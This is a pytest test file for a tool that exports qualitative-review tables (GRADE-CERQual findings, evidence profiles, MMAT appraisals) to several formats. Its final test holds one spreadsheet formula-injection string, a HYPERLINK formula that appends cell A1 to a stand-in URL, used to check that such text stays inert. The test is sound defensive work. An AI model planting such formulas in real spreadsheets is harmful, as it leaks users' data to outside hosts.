"""The fictional project's Summary of Qualitative Findings, Evidence Profile and appraisal table, cell for cell
against tables written by hand from its findings.csv, cerqual.csv and appraisals.csv."""

import csv
import io
import zipfile

import openpyxl
import pytest

from imri_kg.errors import InputError
from imri_kg.findings.tables import to_bytes, to_table
from imri_kg.publish.paper_tables import Table

SOQF = [
    ["#", "Summarised review finding", "GRADE-CERQual assessment of confidence",
     "Explanation of GRADE-CERQual assessment", "Studies contributing to the review finding"],
    ["F1", "Visible commitment from hospital leaders makes hand-hygiene programmes possible.", "High confidence", "",
     "ana2019; ben2020"],
    ["F2", "Ward champions and audit feedback keep staff attention on hand hygiene.", "Moderate confidence",
     "Moderate concerns about adequacy; minor about limitations and relevance.", "cruz2021; dahl2022"],
    ["F3", "Empty dispensers and short staffing undermine hand hygiene on night shifts.", "Low confidence",
     "Moderate concerns about methodological limitations and coherence.", "ben2020; eze2023; fox2018"],
    ["F4", "Programmes in Brazilian hospitals rely on feedback more than on resources.", "Very low confidence",
     "Serious concerns about methodological limitations and adequacy.", "dahl2022"],
]

PROFILE = [
    ["#", "Summarised review finding", "Studies contributing to the review finding", "Methodological limitations",
     "Coherence", "Adequacy of data", "Relevance", "GRADE-CERQual assessment of confidence",
     "Explanation of GRADE-CERQual assessment"],
    ["F1", "Visible commitment from hospital leaders makes hand-hygiene programmes possible.", "ana2019; ben2020",
     "No or very minor concerns", "No or very minor concerns", "Minor concerns: Two studies, one with thin data.",
     "No or very minor concerns", "High confidence", ""],
    ["F2", "Ward champions and audit feedback keep staff attention on hand hygiene.", "cruz2021; dahl2022",
     "Minor concerns: One study's sample may not represent its wards.", "No or very minor concerns",
     "Moderate concerns: Two studies with brief data.", "Minor concerns: Surgical wards only.", "Moderate confidence",
     "Moderate concerns about adequacy; minor about limitations and relevance."],
    ["F3", "Empty dispensers and short staffing undermine hand hygiene on night shifts.", "ben2020; eze2023; fox2018",
     "Moderate concerns: One study's data collection was inadequate.",
     "Moderate concerns: The studies disagree on whether staffing or supplies matter more.",
     "Minor concerns: Three studies.", "Minor concerns: Mostly paediatric wards.", "Low confidence",
     "Moderate concerns about methodological limitations and coherence."],
    ["F4", "Programmes in Brazilian hospitals rely on feedback more than on resources.", "dahl2022",
     "Serious concerns: The one study had an unrepresentative sample and a high risk of nonresponse bias.",
     "Moderate concerns: One study; coherence cannot be judged.", "Serious concerns: One study with thin data.",
     "Moderate concerns: One city only.", "Very low confidence",
     "Serious concerns about methodological limitations and adequacy."],
]

MMAT = "Mixed Methods Appraisal Tool (MMAT), version 2018"
APPRAISALS = [
    ["Study", "Tool", "Design category", "S1", "S2", "Criterion 1", "Criterion 2", "Criterion 3", "Criterion 4",
     "Criterion 5", "Appraiser"],
    ["ana2019", MMAT, "Quantitative randomized controlled trials", "Yes", "Yes", "Yes", "Yes", "Yes", "No", "Yes",
     "Ana Lima"],
    ["ben2020", MMAT, "Qualitative", "Yes", "Yes", "Yes", "Yes", "Yes", "Yes", "Yes", "Ana Lima"],
    ["cruz2021", MMAT, "Qualitative", "Yes", "Yes", "Yes", "Yes", "Can't tell", "Yes", "Yes", "Ana Lima"],
    ["dahl2022", MMAT, "Quantitative descriptive", "Yes", "Yes", "Yes", "No", "Yes", "No", "Yes", "Ana Lima"],
    ["eze2023", MMAT, "Qualitative", "Yes", "Yes", "Yes", "No", "Yes", "Yes", "Yes", "Ana Lima"],
    ["fox2018", MMAT, "Mixed methods", "Yes", "Yes", "Yes", "Yes", "Can't tell", "Yes", "Yes", "Ana Lima"],
]


def cells(table: Table) -> list[list[str]]:
    return [table.columns, *table.rows]


def test_summary_of_qualitative_findings_cell_for_cell(hand_hygiene, findings_store):
    assert cells(to_table(findings_store, hand_hygiene.iri, "soqf")) == SOQF


def test_evidence_profile_cell_for_cell(hand_hygiene, findings_store):
    assert cells(to_table(findings_store, hand_hygiene.iri, "profile")) == PROFILE


def test_appraisal_table_cell_for_cell(hand_hygiene, findings_store):
    table = to_table(findings_store, hand_hygiene.iri, "appraisals")
    assert cells(table) == APPRAISALS
    assert table.notes[0] == (f"{MMAT}: Hong QN, Pluye P, Fàbregues S, et al. Education for Information "
                              "2018;34(4):285-291. Registered with the Canadian Intellectual Property Office, "
                              "#1148552. doi:10.3233/EFI-180221")
    assert table.notes[1:3] == ["S1 (all studies): Are there clear research questions?",
                                "S2 (all studies): Do the collected data allow to address the research questions?"]
    assert len(table.notes) == 1 + 2 + 5 * 4 + 1  # the citation, S1-S2, 5 criteria of each of 4 categories, comments
    assert table.notes[-1] == ("Comments: ana2019, 2.4: Outcome assessors knew the allocation. dahl2022, 4.2: One "
                               "hospital only. eze2023, 1.2: Interviews on day shifts only.")


def test_one_finding_of_each_overall_level(hand_hygiene, findings_store):
    levels = [r[2] for r in to_table(findings_store, hand_hygiene.iri, "soqf").rows]
    assert sorted(levels) == sorted(["High confidence", "Moderate confidence", "Low confidence",
                                     "Very low confidence"])


@pytest.mark.parametrize("kind,expected", [("soqf", SOQF), ("profile", PROFILE), ("appraisals", APPRAISALS)])
def test_csv_and_xlsx_hold_the_same_cells(hand_hygiene, findings_store, kind, expected):
    table = to_table(findings_store, hand_hygiene.iri, kind)
    assert list(csv.reader(io.StringIO(to_bytes(table, "csv").decode()))) == expected
    data = to_bytes(table, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = [[c if c is not None else "" for c in row] for row in sheet.iter_rows(values_only=True)]
    assert values[0][0] == table.title
    assert [row[:len(expected[0])] for row in values[1:1 + len(expected)]] == expected
    assert data == to_bytes(table, "xlsx")  # equal tables, equal bytes
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None


def test_markdown_latex_and_html(hand_hygiene, findings_store):
    table = to_table(findings_store, hand_hygiene.iri, "soqf")
    md = to_bytes(table, "md").decode().splitlines()
    assert md[2] == "| " + " | ".join(SOQF[0]) + " |"
    assert md[4] == "| " + " | ".join(SOQF[1]) + " |"
    tex = to_bytes(table, "tex").decode()
    assert r"F4 & Programmes in Brazilian hospitals rely on feedback more than on resources. & Very low confidence" in tex
    assert tex.count(r" \\") == 1 + 4  # the header and four findings
    page = to_bytes(table, "html").decode()
    assert page.count("<tr>") == 5
    assert "<td>Moderate concerns about adequacy; minor about limitations and relevance.</td>" in page


def test_a_project_without_findings_is_an_input_error(kb):
    with pytest.raises(InputError, match="holds no findings"):
        from pyoxigraph import NamedNode

        to_table(kb, NamedNode("https://w3id.org/imri/project/none"), "soqf")


def test_xlsx_keeps_a_statement_starting_with_equals_as_text():
    """openpyxl stores a string that starts with "=" as a formula; a finding's words must stay words in Excel."""
    statement = '=HYPERLINK("http://example.org/?x="&A1,"click") and = fewer staff'
    table = Table(name="soqf", title="Summary", columns=["#", "Summarised review finding"],
                  rows=[["F1", statement]], notes=["=note"])
    sheet = openpyxl.load_workbook(io.BytesIO(to_bytes(table, "xlsx"))).active
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value is not None}
    assert cells[statement] == "s" and cells["=note"] == "s"
    assert "f" not in cells.values()
